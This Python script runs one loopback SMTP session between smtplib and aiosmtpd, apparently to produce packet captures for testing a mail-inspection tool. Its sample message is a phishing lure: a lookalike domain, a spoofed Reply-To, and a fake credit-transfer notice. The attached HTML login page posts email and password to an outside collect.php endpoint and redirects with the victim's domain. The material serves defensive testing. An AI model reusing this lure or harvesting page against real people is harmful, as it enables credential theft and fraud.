#!/usr/bin/env python3
"""One SMTP session on loopback: Python's smtplib (client) -> aiosmtpd (server).

Used by smtp_aiosmtpd.sh, which runs tcpdump around it. Both ends run in this process
(aiosmtpd's SMTP protocol is served by an asyncio loop in a thread; aiosmtpd's own
Controller is not used because it opens a probe connection to itself that would land in the capture); every byte on the wire is written by smtplib or by
aiosmtpd, nothing is hand-built. Only 127.0.0.1 is used.

Session (both modes):
  EHLO; [STARTTLS; EHLO]; AUTH LOGIN with a wrong password (535); AUTH PLAIN (235);
  transaction 1: MAIL FROM, 25 x RCPT TO (2 refused with 550 by the handler), DATA with a
                 multipart/mixed message (see build_message);
  transaction 2: MAIL FROM, RCPT TO, RSET (aborted);
  transaction 3: MAIL FROM, 2 x RCPT TO, DATA with a short text message;
  QUIT.
"""

import argparse
import smtplib
import ssl
import sys
import zipfile
import io
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.header import Header
from email.policy import compat32
import base64
import logging

import asyncio
import threading

from aiosmtpd.smtp import SMTP, AuthResult, LoginPassword

# smtplib sends bytes messages as they are, so they must already have CRLF line ends.
CRLF = compat32.clone(linesep="\r\n")
# aiosmtpd logs a warning about its own deprecated Session.login_data on every AUTH.
logging.getLogger("mail.log").setLevel(logging.ERROR)

HOST = "127.0.0.1"
SERVER_NAME = "mail.example.test"
CLIENT_NAME = "ws042.corp.example.test"
USER = "j.doe@corp.example.test"
GOOD_PASSWORD = "Spring2024!"
BAD_PASSWORD = "spring2024"

SENDER = "j.doe@corp.example.test"
# Recipients refused by the server handler with 550.
REFUSED = {"nosuchuser@example.net", "former.employee@example.org"}
TO = [f"user{i:02d}@example.net" for i in range(1, 11)]
CC = [f"finance{i:02d}@example.org" for i in range(1, 6)]
BCC = [f"audit{i:02d}@example.com" for i in range(1, 9)] + sorted(REFUSED)
RECIPIENTS = TO + CC + BCC  # 10 + 5 + 10 = 25 RCPT TO
assert len(RECIPIENTS) == 25

BOUNDARY = "===============spanwatch-loopback-0001=="
BODY_TEXT = """Dear colleague,

please find attached the copy of the credit transfer from this morning.
The remittance advice is also available online:

  https://s3cure0line.com/remittance/view?ref=TRX-2024-0415&acct=DE89370400440532013000
  http://downloads.example.com/forms/remittance-advice.pdf

Our regular portal is https://secureonline.example.com/ as usual.

Kind regards,
J. Doe
Accounts Payable
"""

HTML_ATTACHMENT = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Credit Transfer Copy</title></head>
<body>
<p>Your session has expired. Sign in to view the credit transfer copy.</p>
<form method="post" action="https://s3cure0line.com/auth/collect.php">
<input type="email" name="email" value="">
<input type="password" name="pass" value="">
<input type="submit" value="View document">
</form>
<script>window.location.href="https://s3cure0line.com/l?u="+btoa(document.domain);</script>
</body></html>
"""

PDF_BYTES = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)

RFC2231_NAME = "\u00dcberweisungsbeleg M\u00e4rz 2024.pdf"  # Überweisungsbeleg März 2024.pdf
ENCODED_WORD_NAME_UTF8 = "Rechnung_\u00dcbersicht_0415.zip"  # Rechnung_Übersicht_0415.zip
ENCODED_WORD_NAME = "=?UTF-8?B?%s?=" % base64.b64encode(ENCODED_WORD_NAME_UTF8.encode()).decode()


def tiny_zip() -> bytes:
    """A deterministic one-file ZIP (fixed timestamp)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo("readme.txt", date_time=(2024, 4, 15, 9, 30, 0))
        z.writestr(info, b"spanwatch loopback test archive\n")
    return buf.getvalue()


def build_message() -> bytes:
    msg = MIMEMultipart("mixed", boundary=BOUNDARY)
    msg["From"] = f'"J. Doe" <{SENDER}>'
    msg["To"] = ", ".join(TO)
    msg["Cc"] = ", ".join(CC)
    msg["Reply-To"] = '"Accounts Payable" <payments@s3cure0line.com>'
    msg["Subject"] = Header("Credit transfer copy \u2013 TRX-2024-0415", "utf-8")
    msg["Date"] = "Mon, 15 Apr 2024 09:30:00 +0200"
    msg["Message-ID"] = "<20240415093000.4711@ws042.corp.example.test>"
    msg["X-Mailer"] = "Microsoft Outlook 16.0"
    msg.preamble = "This is a multi-part message in MIME format."

    msg.attach(MIMEText(BODY_TEXT, "plain", "us-ascii"))

    html = MIMEText(HTML_ATTACHMENT, "html", "utf-8")  # base64 body
    html.add_header("Content-Disposition", "attachment", filename="Credit Transfer Copy.html")
    msg.attach(html)

    pdf = MIMEApplication(PDF_BYTES, "pdf")
    # A (charset, language, value) tuple makes the email package write RFC 2231 filename*=
    pdf.add_header("Content-Disposition", "attachment", filename=("utf-8", "", RFC2231_NAME))
    pdf.set_param("name", ("utf-8", "", RFC2231_NAME))
    msg.attach(pdf)

    z = MIMEApplication(tiny_zip(), "zip")
    # An RFC 2047 encoded-word inside a quoted parameter: not allowed by RFC 2047 but what many
    # mail clients write (and what filters must decode).
    z.add_header("Content-Disposition", "attachment", filename=ENCODED_WORD_NAME)
    z.set_param("name", ENCODED_WORD_NAME)
    msg.attach(z)
    return msg.as_bytes(policy=CRLF)


def build_short_message() -> bytes:
    m = MIMEText("Second message of the session, plain text only.\n", "plain", "us-ascii")
    m["From"] = SENDER
    m["To"] = "user01@example.net, user02@example.net"
    m["Subject"] = "Re: lunch"
    m["Date"] = "Mon, 15 Apr 2024 09:31:00 +0200"
    m["Message-ID"] = "<20240415093100.4712@ws042.corp.example.test>"
    m["X-Mailer"] = "Microsoft Outlook 16.0"
    return m.as_bytes(policy=CRLF)


class Handler:
    def __init__(self):
        self.messages = []

    async def handle_RCPT(self, server, session, envelope, address, rcpt_options):
        if address in REFUSED:
            return "550 5.1.1 <%s>: Recipient address rejected: User unknown" % address
        envelope.rcpt_tos.append(address)
        return "250 2.1.5 OK"

    async def handle_DATA(self, server, session, envelope):
        self.messages.append((envelope.mail_from, list(envelope.rcpt_tos), envelope.content))
        return "250 2.0.0 Ok: queued as 4711%02d" % len(self.messages)


def authenticator(server, session, envelope, mechanism, auth_data):
    ok = (
        isinstance(auth_data, LoginPassword)
        and auth_data.login == USER.encode()
        and auth_data.password == GOOD_PASSWORD.encode()
    )
    # handled=False: let aiosmtpd send its own 535 reply on failure.
    return AuthResult(success=ok, handled=False, auth_data=auth_data)


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--mode", choices=["plain", "starttls"], required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--keylog", help="NSS key log written by the client's TLS context")
    a = ap.parse_args()

    server_ctx = None
    if a.mode == "starttls":
        server_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        server_ctx.load_cert_chain(a.cert, a.key)

    handler = Handler()

    def factory():
        return SMTP(
            handler,
            hostname=SERVER_NAME,
            ident="ESMTP aiosmtpd",
            authenticator=authenticator,
            auth_require_tls=(a.mode == "starttls"),
            tls_context=server_ctx,
            require_starttls=(a.mode == "starttls"),
        )

    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    server = asyncio.run_coroutine_threadsafe(
        loop.create_server(factory, HOST, a.port), loop
    ).result(5)
    try:
        s = smtplib.SMTP(HOST, a.port, local_hostname=CLIENT_NAME, timeout=10)
        s.set_debuglevel(int(__import__("os").environ.get("SMTP_DEBUG", "0")))
        s.ehlo()
        if a.mode == "starttls":
            ctx = ssl.create_default_context(cafile=a.cert)
            if a.keylog:
                ctx.keylog_filename = a.keylog
            s._host = SERVER_NAME  # so smtplib sends this name as SNI and checks it
            s.starttls(context=ctx)
            s.ehlo()
        # A failed AUTH LOGIN first (credentials still readable on the plain capture), then PLAIN.
        s.user, s.password = USER, BAD_PASSWORD
        try:
            s.auth("LOGIN", s.auth_login, initial_response_ok=False)
            raise SystemExit("AUTH LOGIN with the wrong password was accepted")
        except smtplib.SMTPAuthenticationError as e:
            print("AUTH LOGIN refused as intended:", e.smtp_code)
        s.user, s.password = USER, GOOD_PASSWORD
        code, _ = s.auth("PLAIN", s.auth_plain, initial_response_ok=True)
        print("AUTH PLAIN:", code)

        refused = s.sendmail(SENDER, RECIPIENTS, build_message())
        print("transaction 1 refused:", sorted(refused))
        assert set(refused) == REFUSED, refused

        s.mail(SENDER)
        s.rcpt("user03@example.net")
        s.rset()
        print("transaction 2 aborted with RSET")

        refused = s.sendmail(SENDER, ["user01@example.net", "user02@example.net"], build_short_message())
        assert not refused
        s.quit()
    finally:
        async def close():
            server.close()
            await server.wait_closed()

        asyncio.run_coroutine_threadsafe(close(), loop).result(5)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(5)

    assert len(handler.messages) == 2, handler.messages
    assert len(handler.messages[0][1]) == 23
    print("server accepted", len(handler.messages), "messages;",
          "rcpts:", [len(m[1]) for m in handler.messages],
          "sizes:", [len(m[2]) for m in handler.messages])
    return 0


if __name__ == "__main__":
    sys.exit(main())
